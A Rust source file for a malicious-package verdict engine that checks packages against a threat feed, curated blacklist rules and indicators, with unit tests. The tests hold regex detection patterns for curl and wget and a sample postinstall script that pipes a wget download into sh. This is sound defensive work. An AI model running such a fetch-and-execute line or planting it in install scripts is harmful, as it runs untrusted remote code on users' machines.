//! The engine: feed state, curated rules and indicators, asked one package at a time.

use crate::curated::Curated;
use crate::feed::Feed;
use crate::indicators::Indicators;
use crate::{Knowledge, Query, Verdict, normalize};
use scioc_store::PackageEvent;

/// How much an engine holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Sizes {
    /// Packages with a malicious version or range in the feed.
    pub packages: usize,
    /// Malicious archive hashes.
    pub hashes: usize,
    /// Curated blacklist rules.
    pub rules: usize,
    /// Indicators matched.
    pub indicators: usize,
}

impl Sizes {
    /// Whether the engine knows nothing at all.
    pub fn is_empty(&self) -> bool {
        *self == Sizes::default()
    }
}

/// Answers "is this package known to be malicious, and why?".
///
/// ```
/// use scioc_verdict::{Engine, Knowledge, Query, Rule};
/// use scioc_store::PackageEvent;
///
/// let event = PackageEvent {
///     seq: 1, event_type: scioc_model::EventType::NewMalicious, purl: Some("pkg:npm/evil@1.0.0".into()),
///     community: Some("npm".into()), package: Some("evil".into()), version: Some("1.0.0".into()),
///     md5: None, sha1: None, sha256: None, sha512: None,
///     source: Some("osv".into()), source_id: Some("MAL-2025-1".into()), affected: None, threat_level: None,
/// };
/// let engine = Engine::build(vec![event], Knowledge::default());
/// let verdicts = engine.check(&Query::package("npm", "evil", Some("1.0.0")));
/// assert_eq!(verdicts[0].rule, Rule::KnownMalicious);
/// assert_eq!(verdicts[0].reference.as_deref(), Some("MAL-2025-1"));
/// assert!(engine.check(&Query::package("npm", "evil", Some("1.0.1"))).is_empty());
/// ```
#[derive(Debug, Clone, Default)]
pub struct Engine {
    feed: Feed,
    curated: Curated,
    indicators: Indicators,
    joined: crate::joined::Joined,
    warnings: Vec<String>,
    pub(crate) marks: Vec<(String, i64)>,
    pub(crate) files: Knowledge,
}

impl Engine {
    /// An engine of the feed's `events` (in feed order) and `knowledge`.
    pub fn build(events: Vec<PackageEvent>, knowledge: Knowledge) -> Engine {
        let mut engine = Engine::default();
        engine.apply_events(events);
        engine.set_knowledge(knowledge);
        engine
    }

    /// Every verdict for one package, in rule order: `AS-008` (a curated rule that blocks, else
    /// the feed, then a curated rule that only warns), `HASH`, then `AS-016` per indicator.
    /// [`Verdict::blocks`] says which ones block.
    pub fn check(&self, q: &Query<'_>) -> Vec<Verdict> {
        let mut out = Vec::new();
        if !q.name.is_empty() {
            let name = normalize(q.ecosystem, q.name);
            match self.curated.check(q, &name) {
                Some(rule) if rule.blocks() => out.push(rule),
                warning => {
                    out.extend(self.feed.known(q, name));
                    out.extend(warning);
                }
            }
        }
        out.extend(self.feed.hash(q.hashes));
        self.indicators.check(q, &mut out);
        out
    }

    /// Every report that covers a package version (or, without a version, names the package):
    /// what the OSV API answers with. Reports that joined another's announcement of the same
    /// version ([`Engine::set_claims`]) follow the reports of the feed's events. Curated rules and indicators are not reports; see
    /// [`Engine::check`] for them.
    pub fn reports(&self, q: &Query<'_>) -> Vec<crate::Report> {
        if q.name.is_empty() {
            return Vec::new();
        }
        let name = normalize(q.ecosystem, q.name);
        let mut out = self.feed.reports(q, name.clone());
        self.joined.add_to(q, &name, &mut out);
        out
    }

    /// The packages the feed holds as malicious now, FPs and withdrawals applied: what the
    /// lists for install-time guards are made of.
    pub fn malicious(&self) -> impl Iterator<Item = crate::Malicious<'_>> {
        self.feed.malicious()
    }

    /// Every report an FP took something back from (a manual reclassification, or a
    /// withdrawal), with that FP, unless the report announced something since.
    pub fn retracted_reports(&self) -> impl Iterator<Item = (&str, i64)> {
        self.feed.retracted_all()
    }

    /// The curated rules in force, as promoted.
    pub fn rules(&self) -> impl Iterator<Item = &scioc_curation::files::BlacklistEntry> {
        self.curated.entries()
    }

    /// The indicators the engine matches (kinds a package carries), as stored.
    pub fn indicators(&self) -> impl Iterator<Item = &scioc_store::Indicator> {
        self.indicators.all()
    }

    /// Forgets every feed event applied, for a feed laid out again from the start.
    pub(crate) fn forget_feed(&mut self) {
        self.feed = Feed::default();
    }

    /// Advances the feed state by events after [`Engine::seq`]; earlier ones are ignored.
    pub fn apply_events(&mut self, events: Vec<PackageEvent>) {
        self.feed.apply(events);
    }

    /// Replaces curated rules and indicators (ToolTrust files given at load are kept).
    pub fn set_knowledge(&mut self, mut knowledge: Knowledge) {
        if !self.files.is_empty() {
            knowledge.merge(self.files.clone());
        }
        let mut warnings = Vec::new();
        self.curated = Curated::build(&knowledge.rules, &mut warnings);
        self.indicators = Indicators::build(knowledge.indicators, &mut warnings);
        self.warnings = warnings;
    }

    /// Replaces the claims of source records on announcements ([`scioc_store::Store::claims`]),
    /// by which [`Engine::reports`] names every report of a version, not only its announcer.
    pub fn set_claims(&mut self, claims: Vec<scioc_store::StoredClaim>) {
        self.joined = crate::joined::Joined::build(claims);
    }

    /// How many claims of every version or of one version the engine holds.
    pub fn claims(&self) -> usize {
        self.joined.len()
    }

    /// The last feed event applied.
    pub fn seq(&self) -> i64 {
        self.feed.seq()
    }

    /// The hash algorithms an archive's bytes must be digested with for every malicious hash the
    /// engine holds to recognise it, cheapest first: SHA-256 always (indicators name archives
    /// by it), and SHA-512, SHA-1 or MD5 only while some malicious archive is known by no
    /// cheaper one. Digesting with fewer is what lets a proxy hash what it streams cheaply.
    pub fn hash_algorithms(&self) -> Vec<&'static str> {
        let mut algorithms = vec!["sha256"];
        algorithms.extend(self.feed.hash_algorithms().filter(|a| *a != "sha256"));
        algorithms
    }

    /// What the engine holds.
    pub fn sizes(&self) -> Sizes {
        let (packages, hashes) = self.feed.sizes();
        Sizes { packages, hashes, rules: self.curated.len(), indicators: self.indicators.len() }
    }

    /// Rules and indicators the engine had to leave out, each naming what and why.
    pub fn warnings(&self) -> &[String] {
        &self.warnings
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Query, Rule, Severity};
    use scioc_model::{Affected, IndicatorKind, MatchKind, Range, RangeEvent, RangeKind};
    use scioc_store::Indicator;

    /// An event of package `name` (npm) from `source`/`record`.
    fn event(seq: i64, kind: &str, name: &str, version: Option<&str>, record: Option<&str>) -> PackageEvent {
        PackageEvent {
            seq,
            event_type: kind.parse().unwrap(),
            purl: Some(format!("pkg:npm/{name}{}", version.map(|v| format!("@{v}")).unwrap_or_default())),
            community: Some("npm".into()),
            package: Some(name.into()),
            version: version.map(str::to_owned),
            md5: None,
            sha1: None,
            sha256: None,
            sha512: None,
            source: record.map(|_| "osv".into()),
            source_id: record.map(str::to_owned),
            affected: None,
            threat_level: None,
        }
    }

    fn ranged(mut e: PackageEvent, events: &[RangeEvent]) -> PackageEvent {
        e.affected = Some(Affected::new(vec![Range { kind: RangeKind::Semver, events: events.to_vec() }]));
        e
    }

    fn intro(v: &str) -> RangeEvent {
        RangeEvent::Introduced(v.into())
    }

    fn fixed(v: &str) -> RangeEvent {
        RangeEvent::Fixed(v.into())
    }

    fn hit(engine: &Engine, name: &str, v: &str) -> Option<String> {
        engine.check(&Query::package("npm", name, Some(v))).into_iter().next().map(|v| v.evidence)
    }

    #[test]
    fn a_range_only_report_covers_its_range_only() {
        let e = ranged(
            event(1, "NEW_MALICIOUS", "fsevents", None, Some("MAL-2023-462")),
            &[intro("1.0.0"), fixed("1.2.11")],
        );
        let engine = Engine::build(vec![e], Knowledge::default());
        assert_eq!(hit(&engine, "fsevents", "2.3.3"), None, "chokidar's fsevents is clean");
        let v = &engine.check(&Query::package("npm", "fsevents", Some("1.2.10")))[0];
        assert_eq!(
            (v.rule, v.severity, v.reference.as_deref()),
            (Rule::KnownMalicious, Severity::Critical, Some("MAL-2023-462"))
        );
        assert_eq!(v.evidence, "fsevents@1.2.10: in the malicious range >=1.0.0 <1.2.11");
        assert!(
            engine.check(&Query::package("npm", "fsevents", None)).is_empty(),
            "an unpinned dependency is not in a bounded range"
        );
    }

    #[test]
    fn a_range_change_is_an_fp_of_the_old_range_and_a_new_announcement() {
        let old = ranged(event(1, "NEW_MALICIOUS", "x", None, Some("MAL-1")), &[intro("0")]);
        let other = event(2, "NEW_MALICIOUS", "x", Some("0.5.0"), Some("MAL-2"));
        let mut engine = Engine::build(vec![old.clone(), other], Knowledge::default());
        assert!(hit(&engine, "x", "0.1.0").unwrap().contains("every version"));
        let mut fp = old;
        fp.seq = 3;
        fp.event_type = scioc_model::EventType::FalsePositive;
        let narrowed = ranged(event(4, "NEW_MALICIOUS", "x", None, Some("MAL-1")), &[intro("1.0.0"), fixed("1.1.0")]);
        engine.apply_events(vec![fp, narrowed]);
        assert_eq!(hit(&engine, "x", "0.1.0"), None, "the FP withdrew the old range");
        assert!(hit(&engine, "x", "1.0.5").is_some(), "the new range holds");
        assert!(hit(&engine, "x", "0.5.0").is_some(), "another report's version is untouched by MAL-1's FP");
    }

    #[test]
    fn a_whole_package_reclassification_clears_every_report_and_a_rename_widens_nothing() {
        let a = event(1, "NEW_MALICIOUS", "y", Some("1.0.0"), Some("MAL-1"));
        let b = ranged(event(2, "NEW_MALICIOUS", "y", None, Some("MAL-2")), &[intro("2.0.0"), fixed("2.1.0")]);
        // A rename without ranges (a reclassification's NEW_THREAT_NAME) must not widen MAL-2.
        let rename = event(3, "NEW_THREAT_NAME", "y", None, None);
        let mut engine = Engine::build(vec![a, b, rename], Knowledge::default());
        assert!(hit(&engine, "y", "1.0.0").is_some() && hit(&engine, "y", "2.0.5").is_some());
        assert_eq!(hit(&engine, "y", "3.0.0"), None);
        let mut fp = event(4, "FP", "y", None, None);
        fp.source = Some("reclassify".into());
        engine.apply_events(vec![fp]);
        assert_eq!((hit(&engine, "y", "1.0.0"), hit(&engine, "y", "2.0.5")), (None, None));
        assert_eq!(engine.seq(), 4);
        // Applying an older batch again changes nothing.
        engine.apply_events(vec![event(2, "NEW_MALICIOUS", "y", Some("1.0.0"), Some("MAL-1"))]);
        assert_eq!(hit(&engine, "y", "1.0.0"), None);
    }

    #[test]
    fn versions_compare_by_the_ecosystems_order() {
        let mut e = event(1, "NEW_MALICIOUS", "Req_Uests", Some("2.0"), Some("MAL-9"));
        e.community = Some("pypi".into());
        let engine = Engine::build(vec![e], Knowledge::default());
        assert!(!engine.check(&Query::package("PyPI", "req-uests", Some("2.0.0"))).is_empty(), "PEP 440: 2.0 == 2.0.0");
        assert!(engine.check(&Query::package("PyPI", "req-uests", Some("2.0.1"))).is_empty());
    }

    fn indicator(kind: IndicatorKind, value: &str, m: MatchKind) -> Indicator {
        Indicator {
            kind,
            value: value.into(),
            ecosystem: String::new(),
            package: String::new(),
            source: "curation".into(),
            source_id: format!("https://example.org/{value}"),
            match_kind: m,
            confidence: "high".into(),
            action: "block".into(),
        }
    }

    #[test]
    fn sha256_indicators_match_archive_hashes() {
        let hex = "ab".repeat(32);
        let engine = Engine::build(
            vec![],
            Knowledge::new(vec![], vec![indicator(IndicatorKind::Sha256, &hex, MatchKind::Exact)]),
        );
        let hashes = [("sha256", hex.clone())];
        let q = Query { hashes: &hashes, ..Query::package("PyPI", "anything", Some("1.0")) };
        let v = engine.check(&q);
        assert_eq!(v.len(), 1, "{v:?}");
        assert_eq!((v[0].rule, v[0].severity), (Rule::Indicator, Severity::Critical));
        assert!(v[0].evidence.contains(&hex));
        assert!(engine.check(&Query::package("PyPI", "anything", Some("1.0"))).is_empty());
    }

    #[test]
    fn a_bad_regex_is_named_and_drops_nothing_else() {
        let iocs = vec![
            indicator(IndicatorKind::ScriptPattern, "curl (.*", MatchKind::Regex),
            indicator(IndicatorKind::ScriptPattern, r"wget\s+http", MatchKind::Regex),
        ];
        let engine = Engine::build(vec![], Knowledge::new(vec![], iocs));
        assert_eq!(engine.warnings().len(), 1, "{:?}", engine.warnings());
        assert!(engine.warnings()[0].contains("\"curl (.*\"") && engine.warnings()[0].contains("not a valid regex"));
        let scripts = [("postinstall".to_owned(), "wget  http://x/y | sh".to_owned())];
        let q = Query { scripts: &scripts, ..Query::package("npm", "p", Some("1.0.0")) };
        assert_eq!(engine.check(&q).len(), 1, "the valid regex still matches");
    }

    #[test]
    fn curated_rules_use_the_validating_parser_and_warn_on_what_it_refuses() {
        let entry = |id: &str, spec: &str| scioc_curation::files::BlacklistEntry {
            id: id.into(),
            component: "evil".into(),
            ecosystem: "npm".into(),
            affected_versions: vec![spec.into()],
            action: "BLOCK".into(),
            severity: "HIGH".into(),
            reason: String::new(),
            link: String::new(),
            extra: Default::default(),
        };
        let engine = Engine::build(
            vec![],
            Knowledge::new(vec![entry("R-1", ">=2.4.0 <<2.4.3"), entry("R-2", ">=3.0.0 <3.0.2")], vec![]),
        );
        assert_eq!(engine.warnings().len(), 1);
        assert!(engine.warnings()[0].starts_with("blacklist rule R-1"), "{:?}", engine.warnings());
        assert!(
            engine.check(&Query::package("npm", "evil", Some("2.4.1"))).is_empty(),
            "a refused range matches nothing"
        );
        let v = &engine.check(&Query::package("npm", "evil", Some("3.0.1")))[0];
        assert_eq!((v.severity, v.reference.as_deref()), (Severity::High, Some("R-2")));
    }
}
